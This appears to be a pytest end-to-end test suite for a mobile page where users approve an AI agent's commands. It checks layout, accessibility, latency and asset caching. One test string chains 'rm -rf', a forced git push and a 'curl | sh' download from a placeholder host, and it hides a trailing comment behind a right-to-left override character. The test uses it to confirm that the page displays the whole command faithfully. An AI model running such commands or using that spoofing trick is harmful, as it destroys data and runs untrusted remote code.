"""Issue 52, 2, 4 and 5: the page as a phone needs it, in Debian's chromium. The command
being approved stands whole above the answers; no view scrolls sideways at 320 to 430 px,
whatever the agent writes; axe-core (npm, injected through the browser's devtools protocol,
which the page's policy does not govern) finds nothing serious in light or dark; a question
is on the page the moment it is asked, in the list and in the session's view; the assets
come compressed and, on a reload, from the browser's cache."""

from __future__ import annotations

import asyncio
import json
import threading
import time
from typing import Any

import aiohttp
import pytest

from acpctl import protocol as acp
from tests.conftest import cli
from tests.npm_agents import NPM_DIR
from tests.test_host import RawClient
from tests.test_pairing import (
    ARTIFACTS,
    EditorsTurn,
    Page,
    an_editors_turn,
    paired_tab,
    shows,
)
from tests.test_pairing import page as page  # the fixture: a host listening on 127.0.0.1

pytestmark = pytest.mark.e2e

COMMAND = (
    "rm -rf build/ dist/ && python -m pytest -q tests/ && git push --force origin main "
    "&& curl -s https://example.invalid/install.sh | sh \u202e#txt.etadpu"
)
SHOWN_COMMAND = COMMAND.replace("\u202e", "⟨U+202E⟩")
WIDE = (
    "A word with no break: "
    + "x" * 300
    + "\n\n| a | b | c |\n|---|---|---|\n| "
    + " | ".join(["y" * 120] * 3)
    + " |\n\n```\n"
    + "z" * 400
    + "\n```\n"
)
SIDEWAYS = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


def axe_serious(tab: Any) -> list[Any]:
    """axe-core's serious and critical violations on the page as it is."""
    source = NPM_DIR / "node_modules" / "axe-core" / "axe.min.js"
    if not source.exists():
        pytest.skip("axe-core is not installed (cd tests/npm && npm install)")
    if not tab.evaluate("typeof window.axe !== 'undefined'"):
        tab.evaluate(source.read_text() + "\n;true")
    found: list[Any] = tab.evaluate(
        """async () => (await axe.run(document, { resultTypes: ["violations"] })).violations
            .filter((v) => v.impact === "serious" || v.impact === "critical")
            .map((v) => [v.id, v.nodes.map((n) => n.target.join(" ")).slice(0, 3)])"""
    )
    return found


@pytest.mark.parametrize("width", [320, 390])
def test_the_whole_command_stands_above_the_answers_marked_and_aged(page: Page, width: int) -> None:
    turn = EditorsTurn(page, f"run: {COMMAND}", {})
    with paired_tab(page, (width, 740)) as tab:
        turn.thread.start()
        assert turn.asked.wait(30)
        tab.wait_for_selector("#waiting button.allow")
        assert tab.inner_text("#waiting pre.command") == SHOWN_COMMAND  # whole, visible
        placed = tab.evaluate(
            """() => {
                const command = document.querySelector("#waiting pre.command");
                const answers = document.querySelector("#waiting .choices");
                return {
                    clipped: command.scrollWidth > command.clientWidth,
                    above: command.getBoundingClientRect().bottom
                        <= answers.getBoundingClientRect().top,
                };
            }"""
        )
        assert placed == {"clipped": False, "above": True}
        assert tab.evaluate(SIDEWAYS) <= 0
        always = tab.inner_text("#waiting .choices button:nth-child(2)")
        assert "Always allow" in always and "standing permission" in always
        assert "waiting" in tab.inner_text("#waiting li .where")  # how long it has waited
        ARTIFACTS.mkdir(exist_ok=True)
        tab.screenshot(path=str(ARTIFACTS / f"command-{width}.png"), full_page=True)
        assert axe_serious(tab) == []
        tab.emulate_media(color_scheme="dark")
        assert axe_serious(tab) == []
        tab.click("#waiting button.allow")
        turn.thread.join(60)
    assert turn.seen["stop"] == "end_turn"


def test_no_view_scrolls_sideways_and_axe_finds_nothing_serious(page: Page) -> None:
    an_editors_turn(page, WIDE)
    with paired_tab(page, (320, 700)) as tab:
        for width in (320, 360, 390, 430):
            tab.set_viewport_size({"width": width, "height": 700})
            if not tab.is_hidden("#session-view"):
                tab.click("#back")
            tab.wait_for_selector("#sessions li")
            assert tab.evaluate(SIDEWAYS) <= 0, ("overview", width)
            tab.click("#sessions li")
            shows(tab, "#transcript", "A word with no break")
            assert tab.evaluate(SIDEWAYS) <= 0, ("session", width)
        # Times on the transcript, and a title from the first prompt.
        assert tab.inner_text("#transcript li.you time.at")
        assert tab.inner_text("#session-title").startswith("A word with no break")
        for scheme in ("light", "dark"):
            tab.emulate_media(color_scheme=scheme)
            assert axe_serious(tab) == [], ("session", scheme)
            tab.click("#back")
            tab.wait_for_selector("#sessions li")
            assert axe_serious(tab) == [], ("overview", scheme)
            tab.click("#sessions li")
            shows(tab, "#transcript", "A word with no break")
        sizes = tab.evaluate(
            """() => [...document.querySelectorAll("button, select, textarea, summary")]
                .filter((e) => e.offsetParent !== null)
                .map((e) => [e.id || e.className || e.tagName,
                    Math.round(e.getBoundingClientRect().height),
                    parseFloat(getComputedStyle(e).fontSize)])"""
        )
        assert all(height >= 44 for _, height, _ in sizes), sizes  # a finger's size
        assert all(font >= 16 for name, _, font in sizes if name in ("prompt",)), sizes
        font = tab.evaluate(
            "parseFloat(getComputedStyle(document.querySelector('#prompt')).fontSize)"
        )
        assert font >= 16  # iOS zooms on less


SEEN = """(where) => {
    window.seenAt = {};
    new MutationObserver(() => {
        for (const pre of document.querySelectorAll(`${where} pre.command`))
            if (!(pre.textContent in window.seenAt)) window.seenAt[pre.textContent] = Date.now();
    }).observe(document.body, { childList: true, subtree: true, characterData: true });
}"""


class AskingEditor:
    """An editor over the host's WebSocket (the controller's token), in a thread: in one
    session, it prompts `run: echo N` for each N, notes when the agent's question reached
    it (`asked_at`), and answers it once the test says so (`go`)."""

    def __init__(self, page: Page, count: int, session: str | None = None) -> None:
        self.page, self.count = page, count
        self.session = session
        self.token = cli("serve", "--show-token").stdout.strip()
        self.asked_at: dict[int, float] = {}
        self.asked = threading.Semaphore(0)
        self.go = threading.Semaphore(0)
        self.opened = threading.Event()
        self.thread = threading.Thread(target=lambda: asyncio.run(self._run()))

    async def _run(self) -> None:
        headers = {"Authorization": f"Bearer {self.token}"}
        async with (
            aiohttp.ClientSession() as http,
            http.ws_connect(self.page.url("/acp"), headers=headers) as socket,
        ):
            editor = RawClient(socket)
            await editor.request(acp.INITIALIZE, {"protocolVersion": 1})
            new = await editor.request(acp.SESSION_NEW, {"cwd": "/tmp", "mcpServers": []})
            self.session = new["result"]["sessionId"]
            self.opened.set()
            await asyncio.to_thread(self.go.acquire, True, 60)  # the page is ready
            for n in range(self.count):
                editor.messages.clear()  # `until` looks at what came before too
                await editor.send_prompt(self.session, f"run: echo {n}", msg_id=1000 + n)
                asked = await editor.until(lambda m: m.get("method") == acp.REQUEST_PERMISSION)
                self.asked_at[n] = time.time()
                self.asked.release()
                await asyncio.to_thread(self.go.acquire, True, 60)
                chosen = {"outcome": {"outcome": "selected", "optionId": "allow"}}
                await editor.send({"jsonrpc": "2.0", "id": asked["id"], "result": chosen})
                await editor.until(lambda m, n=n: m.get("id") == 1000 + n and "result" in m, 60)


def test_each_question_is_on_the_page_the_moment_it_is_asked_in_both_views(page: Page) -> None:
    """Five questions on the list, then five in the session's own view: each shown within
    300 ms of the agent asking (the bench's target is 100 ms: bench/page.py)."""
    with paired_tab(page, (390, 844)) as tab:
        for view in ("list", "session"):
            editor = AskingEditor(page, 5)
            editor.thread.start()
            assert editor.opened.wait(30)
            if view == "session":
                tab.click(f"#sessions li[data-session='{editor.session}']")
                tab.wait_for_selector("#session-view:not([hidden])")
            where = "#waiting" if view == "list" else "#view-asked"
            tab.evaluate(SEEN, where)
            editor.go.release()
            late = []
            for n in range(5):
                assert editor.asked.acquire(timeout=30)
                shown = f"echo {n}"
                tab.wait_for_selector(f"{where} pre.command:has-text('{shown}')", timeout=15000)
                seen_at = tab.evaluate("(text) => window.seenAt[text]", shown)
                late.append(seen_at / 1000 - editor.asked_at[n])
                editor.go.release()
            editor.thread.join(60)
            assert max(late) < 0.3, (view, late)
            if view == "session":
                tab.click("#back")


TRANSFERRED = """() => performance.getEntriesByType("resource").concat(
    performance.getEntriesByType("navigation")).map((e) => [e.name, e.transferSize])"""


def bytes_moved(tab: Any, address: str) -> tuple[int, int]:
    """What a first open of the page at `address` moves over the wire (the browser's cache
    cleared first), and what a reload then moves, in bytes as sent (compressed)."""
    session = tab.context.new_cdp_session(tab)
    session.send("Network.enable")
    session.send("Network.clearBrowserCache")
    moved: list[int] = []
    session.on("Network.loadingFinished", lambda e: moved.append(int(e["encodedDataLength"])))
    tab.goto(address)
    tab.wait_for_selector("#nothing-waits:not([hidden])")
    first = sum(moved)
    moved.clear()
    tab.reload()
    tab.wait_for_selector("#nothing-waits:not([hidden])")
    return first, sum(moved)


def test_the_first_open_moves_little_and_a_reload_almost_nothing(page: Page) -> None:
    """Assets go compressed, under content-hashed names kept for good: a first open moves
    at most 80 KB, a reload at most 10 KB (bench/page.py records the figures)."""
    with paired_tab(page, (390, 844)) as tab:
        tab.goto("about:blank")
        first, again = bytes_moved(tab, page.url("/"))
        assert first <= 80 * 1024, first
        assert again <= 10 * 1024, again
        cached = [name for name, size in tab.evaluate(TRANSFERRED) if "/assets/" in name]
        assert cached and all(
            size == 0 for name, size in tab.evaluate(TRANSFERRED) if name in cached
        )
    print(json.dumps({"first_open_bytes": first, "reload_bytes": again}))


def test_assets_are_compressed_hashed_and_immutable_and_the_page_is_not(page: Page) -> None:
    async def scenario() -> None:
        async with aiohttp.ClientSession(auto_decompress=False) as http:
            async with http.get(page.url("/"), headers={"Accept-Encoding": "br"}) as front:
                assert front.headers["Content-Encoding"] == "br"
                assert front.headers["Cache-Control"] == "no-store"
                html = await front.read()
            import brotli

            text = brotli.decompress(html).decode()
            assert '<script type="importmap">' in text
            hashed = text.split('src="/assets/app.')[1].split('"')[0]
            address = page.url(f"/assets/app.{hashed}")
            async with http.get(address, headers={"Accept-Encoding": "gzip"}) as asset:
                assert asset.headers["Content-Encoding"] == "gzip"
                assert "immutable" in asset.headers["Cache-Control"]
                assert asset.headers["Vary"] == "Accept-Encoding"
            async with http.get(page.url("/assets/app.js")) as plain:
                assert plain.headers["Cache-Control"] == "no-cache"
                etag = plain.headers["ETag"]
            async with http.get(
                page.url("/assets/app.js"), headers={"If-None-Match": etag}
            ) as same:
                assert same.status == 304
            async with http.get(page.url("/sw.js")) as worker:
                assert worker.status == 200 and "no-cache" in worker.headers["Cache-Control"]
            plain_only = {"Accept-Encoding": "identity"}
            async with http.get(page.url("/manifest.webmanifest"), headers=plain_only) as manifest:
                assert "Content-Encoding" not in manifest.headers
                said = json.loads(await manifest.read())
                assert said["display"] == "standalone" and said["icons"]
            for bad in ("/assets/../config.py", "/assets/page.py", "/assets/.hidden.js"):
                async with http.get(page.url(bad)) as refused:
                    assert refused.status == 404, bad

    from tests.conftest import run

    run(scenario())
